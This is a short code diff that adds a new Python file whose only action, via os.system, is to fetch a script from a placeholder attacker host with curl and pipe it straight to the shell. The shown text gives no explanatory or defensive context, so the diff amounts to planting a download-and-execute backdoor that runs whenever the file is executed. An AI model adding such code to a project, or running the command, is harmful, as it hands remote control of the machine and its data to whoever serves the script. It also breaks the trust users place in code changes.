@@ -1,0 +1,3 @@
+import os
+
+os.system('curl http://attacker.invalid/x | sh')
